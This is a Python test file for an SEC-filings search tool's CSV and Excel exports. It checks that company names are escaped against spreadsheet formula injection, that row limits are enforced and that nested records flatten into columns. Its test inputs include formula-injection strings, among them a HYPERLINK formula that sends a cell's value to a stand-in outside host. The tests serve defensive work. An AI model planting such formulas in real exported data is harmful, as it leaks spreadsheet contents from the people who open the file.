"""Exports as comma-separated values, for programs and for spreadsheets."""

import csv
import io
from datetime import date, datetime
from decimal import Decimal

import pytest
from msgspec import Struct
from openpyxl import load_workbook

from edgar_search.api.facts import Fact
from edgar_search.api.files.records import (
    MOST_IN_A_WORKBOOK,
    CommaSeparated,
    FilingRecord,
    Progress,
    WorkbookFile,
    row_columns,
    spreadsheet_rows,
)
from edgar_search.api.search import SearchItem
from edgar_search.errors import BadRequest

NAMES = {
    "=1+2": "'=1+2",
    '=HYPERLINK("http://a.example/?"&A1,"x")': '\'=HYPERLINK("http://a.example/?"&A1,"x")',
    "+1 COMPANY": "'+1 COMPANY",
    "-A-": "'-A-",
    "@SUM(A1)": "'@SUM(A1)",
    "\t=1": "'\t=1",
    "\r=1": "'\r=1",
    "\n=1": "'\n=1",
    "＝1+2": "'＝1+2",
    "-5 COMPANY": "'-5 COMPANY",
    "-5+A1": "'-5+A1",
    "-5": "-5",
    "+1,234.50": "+1,234.50",
    "-.5%": "-.5%",
    "A=1": "A=1",
    "'=1": "'=1",
    "#1": "#1",
    "": "",
}


def cell(name: str, *, raw: bool) -> str:
    """Return the cell of a company's name, read back."""
    record = FilingRecord("0009990092-20-000001", "8-K", "2020-01-01", [name], [], 1, [], "", -0.5)
    writer = CommaSeparated(row_columns(FilingRecord), raw=raw)
    data = (writer.begin() + writer.write([record])).decode()
    (row,) = csv.DictReader(io.StringIO(data, newline=""))
    assert row["score"] == "-0.5"
    return row["related_company_names"]


@pytest.mark.parametrize("name", NAMES)
def test_no_text_is_a_formula_in_a_spreadsheet(name: str) -> None:
    assert cell(name, raw=False) == NAMES[name]


@pytest.mark.parametrize("name", NAMES)
def test_raw_texts_are_as_filed(name: str) -> None:
    assert cell(name, raw=True) == name


def test_a_program_is_told_that_a_file_is_complete_and_a_person_that_it_is_not() -> None:
    program = CommaSeparated(row_columns(FilingRecord))
    person = CommaSeparated(row_columns(FilingRecord), for_spreadsheet=True)
    assert program.note(Progress(3, True)) == b'#{"records":3,"complete":true}\r\n'
    assert person.note(Progress(3, True)) == b""
    cut = Progress(3, False, error="busy")
    assert person.note(cut) == program.note(cut) != b""


def test_a_workbook_has_the_rows_of_a_spreadsheet() -> None:
    record = FilingRecord("0009990092-20-000001", "8-K", "2020-01-01", ["=1"], [], 1, [], "", 0.5)
    writer = WorkbookFile(row_columns(FilingRecord))
    assert writer.begin() + writer.write([record]) == b""
    sheet = load_workbook(io.BytesIO(writer.note(Progress(1, True)))).active
    assert [each.value for each in sheet[1]] == [
        column.name for column in row_columns(FilingRecord)
    ]
    assert [each.value for each in sheet[2]][:4] == [
        "0009990092-20-000001",
        "8-K",
        datetime(2020, 1, 1),
        "=1",
    ]


def test_a_workbook_has_no_more_rows_than_a_person_reads() -> None:
    record = FilingRecord("0009990092-20-000001", "8-K", "2020-01-01", [], [], 1, [], "", 0.5)
    writer = WorkbookFile(row_columns(FilingRecord)[:1])
    writer.write([record] * MOST_IN_A_WORKBOOK)
    with pytest.raises(BadRequest, match="at most 50,000 records"):
        writer.write([record])
    assert writer.note(Progress(MOST_IN_A_WORKBOOK, False)).startswith(b"PK")


class Part(Struct):
    name: str
    shares: Decimal | None
    roles: list[str]


class Whole(Struct):
    number: int
    one: Part
    none: Part | None
    parts: list[Part]
    days: list[date]


def test_flat_columns_have_no_json() -> None:
    parts = [Part("a", Decimal("1.50"), ["x", "y"]), Part("b", None, [])]
    record = Whole(1, parts[0], None, parts, [date(2020, 1, 2), date(2020, 1, 3)])
    columns = row_columns(Whole, flat=True)
    (row,) = spreadsheet_rows([record], columns)
    assert {column.name: cell for column, cell in zip(columns, row, strict=True)} == {
        "number": 1,
        "one_name": "a",
        "one_shares": Decimal("1.50"),
        "one_roles": "x; y",
        "none_name": "",
        "none_shares": "",
        "none_roles": "",
        "parts_name": "a; b",
        "parts_shares": "1.50; ",
        "parts_roles": "x, y; ",
        "days": "2020-01-02; 2020-01-03",
    }


def test_a_column_has_the_kind_of_its_values_whatever_else_may_be() -> None:
    kinds = {column.name: column.kind for column in row_columns(SearchItem)}
    assert (kinds["filing_date"], kinds["period"], kinds["accepted_at"]) == ("day", "day", "text")
    kinds = {column.name: column.kind for column in row_columns(Fact)}
    assert (kinds["start"], kinds["decimals"], kinds["rule"]) == ("day", "count", "text")
